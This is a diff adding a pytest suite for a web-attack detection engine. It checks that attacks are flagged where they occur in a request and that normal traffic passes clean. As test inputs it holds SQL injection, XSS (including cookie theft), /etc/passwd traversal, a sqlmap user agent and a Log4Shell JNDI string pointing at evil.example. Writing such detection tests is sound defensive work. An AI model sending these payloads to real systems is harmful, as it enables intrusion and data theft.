@@ -1,0 +1,192 @@
+"""`DetectionEngine.inspect`: requests in, verdicts out (parsers and detectors together)."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+
+from wallarm_sidecar.detect import CLEAN, DetectionEngine, InspectedRequest, Verdict
+from wallarm_sidecar.detect._engine import value_type
+
+ENGINE = DetectionEngine()
+BROWSER = (
+    ("host", "shop.example.com"),
+    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
+    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+    ("accept-language", "en-US,en;q=0.5"),
+    ("accept-encoding", "gzip, deflate, br"),
+    ("cookie", "sid=8e5a89cef8e7d616c40368e11891ed9e; theme=dark"),
+)
+
+
+def _get(target: str, *headers: tuple[str, str]) -> InspectedRequest:
+    return InspectedRequest(method="GET", target=target, headers=BROWSER + headers)
+
+
+def _post_json(document: object, target: str = "/api/v1/items") -> InspectedRequest:
+    return InspectedRequest(
+        method="POST",
+        target=target,
+        headers=(*BROWSER, ("content-type", "application/json")),
+        body=json.dumps(document).encode(),
+    )
+
+
+def _kinds(verdict: Verdict) -> set[tuple[str, str]]:
+    return {(hit.attack_type, hit.point) for hit in verdict.hits}
+
+
+@pytest.mark.parametrize(
+    ("request_", "expected"),
+    [
+        pytest.param(_get("/etc/passwd"), ("ptrav", "uri"), id="documented-test-attack"),
+        pytest.param(_get("/?id=1'%20OR%20'1'='1"), ("sqli", 'get_param "id"'), id="sqli-in-query"),
+        pytest.param(
+            _get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+            ("xss", 'get_param "q"'),
+            id="xss-in-query",
+        ),
+        pytest.param(
+            _get("/", ("x-api-version", "${jndi:ldap://evil.example/a}")),
+            ("rce", 'header "X-Api-Version"'),
+            id="log4shell-in-header",
+        ),
+        pytest.param(
+            InspectedRequest(
+                method="GET", target="/", headers=(("user-agent", "sqlmap/1.7.2#stable"),)
+            ),
+            ("scanner", 'header "User-Agent"'),
+            id="scanner-user-agent",
+        ),
+        pytest.param(
+            _post_json({"user": {"name": "x", "bio": "<img src=x onerror=alert(1)>"}}),
+            ("xss", 'post json_doc hash "user" hash "bio"'),
+            id="xss-in-json",
+        ),
+    ],
+)
+def test_attack_is_reported_at_its_point(
+    request_: InspectedRequest, expected: tuple[str, str]
+) -> None:
+    verdict = ENGINE.inspect(request_)
+    assert verdict.is_attack
+    assert expected in _kinds(verdict)
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        pytest.param(_get("/api/v1/items/42?page=2&sort=-created_at"), id="api-get"),
+        pytest.param(_get("/search?q=select+comfort+sleep+number"), id="search-sql-words"),
+        pytest.param(_get("/docs/readme.md?ref=main"), id="file-path"),
+        pytest.param(
+            _post_json(
+                {
+                    "title": "Spring sale",
+                    "body": '<p>Our <a href="https://shop.example.com/sale">sale</a> starts '
+                    "<b>today</b>.</p>",
+                    "note": "select the best option from the list, or drop us a line",
+                    "author": "jane.doe@example.com",
+                    "published": "2024-05-01",
+                }
+            ),
+            id="cms-json",
+        ),
+    ],
+)
+def test_legitimate_request_is_clean(request_: InspectedRequest) -> None:
+    assert ENGINE.inspect(request_) is CLEAN
+
+
+def test_at_most_one_hit_per_type_and_point() -> None:
+    verdict = ENGINE.inspect(_get("/?q=1'%20or%201=1%20union%20select%201,2--%20and%20sleep(5)"))
+    keys = [(hit.attack_type, hit.point) for hit in verdict.hits]
+    assert len(keys) == len(set(keys))
+    assert ("sqli", 'get_param "q"') in keys
+
+
+def test_fragment_is_at_most_200_characters() -> None:
+    payload = "%3Cscript%3E" + "a" * 1000
+    verdict = ENGINE.inspect(_get(f"/?q={payload}"))
+    assert verdict.hits
+    assert all(len(hit.fragment) <= 200 for hit in verdict.hits)
+
+
+def test_disabled_parser_hides_what_only_it_decodes() -> None:
+    encoded = base64.b64encode(b"<script>alert(document.cookie)</script>").decode()
+    request = _get("/?data=" + encoded.replace("+", "%2B").replace("=", "%3D"))
+    assert "xss" in {hit.attack_type for hit in ENGINE.inspect(request).hits}
+    without_base64 = DetectionEngine(disabled_parsers=["base64"])
+    assert "xss" not in {hit.attack_type for hit in without_base64.inspect(request).hits}
+
+
+def test_unknown_parser_name_is_refused() -> None:
+    with pytest.raises(ValueError, match="nosuchparser"):
+        DetectionEngine(disabled_parsers=["nosuchparser"])
+
+
+def test_lib_detection_off_keeps_signatures_only() -> None:
+    # a leading boolean test is a shape only the SQL tokenizer reads
+    request = InspectedRequest(
+        method="POST",
+        target="/post",
+        headers=(("content-type", "application/x-www-form-urlencoded"),),
+        body=b"pay=AND+2771%3D1709%29",
+    )
+    assert "sqli" in {hit.attack_type for hit in ENGINE.inspect(request).hits}
+    signatures = DetectionEngine(lib_detection=False)
+    assert "sqli" not in {hit.attack_type for hit in signatures.inspect(request).hits}
+    # ... while the signatures still see the classics
+    assert signatures.inspect(_get("/?id=1%20UNION%20SELECT%20password%20FROM%20users")).is_attack
+    assert signatures.inspect(_get("/etc/passwd")).is_attack
+
+
+def test_parameters_are_collected_only_when_asked() -> None:
+    request = _post_json(
+        {
+            "id": 42,
+            "price": 4.5,
+            "active": True,
+            "email": "a@example.com",
+            "uid": "3bc85494-dede-46eb-941c-3bdbc9ce26b0",
+            "name": "mug",
+        },
+        target="/api/items?page=2",
+    )
+    assert ENGINE.inspect(request).parameters == ()
+    collected = dict(DetectionEngine(collect_parameters=True).inspect(request).parameters)
+    assert collected['get_param "page"'] == "integer"
+    assert collected['post json_doc hash "id"'] == "integer"
+    assert collected['post json_doc hash "price"'] == "number"
+    assert collected['post json_doc hash "active"'] == "boolean"
+    assert collected['post json_doc hash "email"'] == "email"
+    assert collected['post json_doc hash "uid"'] == "uuid"
+    assert collected['post json_doc hash "name"'] == "string"
+
+
+@pytest.mark.parametrize(
+    ("value", "kind"),
+    [
+        ("", "empty"),
+        ("-12", "integer"),
+        ("3.14", "number"),
+        ("FALSE", "boolean"),
+        ("2024-05-01", "date"),
+        ("2024-05-01T10:00:00Z", "datetime"),
+        ("10.0.0.1", "ip"),
+        ("https://example.com/a", "url"),
+        ("hello", "string"),
+    ],
+)
+def test_value_types(value: str, kind: str) -> None:
+    assert value_type(value) == kind
+
+
+def test_parser_hits_are_kept() -> None:
+    deep = b"[" * 200 + b"]" * 200
+    request = InspectedRequest(
+        method="POST", target="/", headers=(("content-type", "application/json"),), body=deep
+    )
+    assert "overlimit_res" in {hit.attack_type for hit in ENGINE.inspect(request).hits}
